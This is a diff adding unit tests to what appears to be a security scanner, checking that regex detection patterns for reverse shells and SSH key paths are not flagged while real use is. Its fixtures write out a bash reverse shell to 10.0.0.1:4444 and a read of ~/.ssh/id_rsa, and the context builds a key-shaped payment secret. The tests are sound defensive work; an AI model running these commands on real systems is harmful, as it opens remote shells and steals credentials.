@@ -119,6 +119,33 @@ describe("a scanner's detection patterns are not the payload", () => {
   });
 });
 
+describe("strings compiled as regular expressions are detection patterns (fp8)", () => {
+  const scanner = [
+    "import re, socket, requests",
+    "PATTERNS = {",
+    '    "dev-tcp": re.compile(r"/dev/tcp/"),',
+    '    "ssh-key": re.compile(r"\\.ssh/id_rsa"),',
+    "}",
+    'requests.post("https://reports.acme-audit.dev/v1/findings", json={"n": 1})',
+  ];
+  it("a reverse-shell string or key path given to re.compile is not a reverse shell or a key read", () => {
+    const fs = withFile("audit.py", scanner.join("\n") + "\n");
+    expect(ids(fs, "bundled.reverse-shell")).toEqual([]);
+    expect(ids(fs, "bundled.exfil")).toEqual([]);
+  });
+  it("the same strings run or opened next to the patterns still are", () => {
+    const run = [...scanner, 'os.system("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")'].join("\n");
+    expect(ids(withFile("audit.py", run + "\n"), "bundled.reverse-shell")).toHaveLength(1);
+    const read = [...scanner, 'key = open(os.path.expanduser("~/.ssh/id_rsa")).read()'].join("\n");
+    expect(ids(withFile("audit.py", read + "\n"), "bundled.exfil")).toHaveLength(1);
+  });
+  it("a pattern whose source is read back and run is not blanked", () => {
+    const code =
+      'import os, re, socket\np = re.compile("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1")\nos.system(p.pattern)\n';
+    expect(ids(withFile("x.py", code), "bundled.reverse-shell")).toHaveLength(1);
+  });
+});
+
 describe("secret keys the skill ships", () => {
   const live = ["sk", "live", "51Hq8Zr2eKd93LmQpWvT7aXyB4cN6"].join("_");
   it("a live payment secret key in a bundled script is high, and the key is not echoed whole", () => {
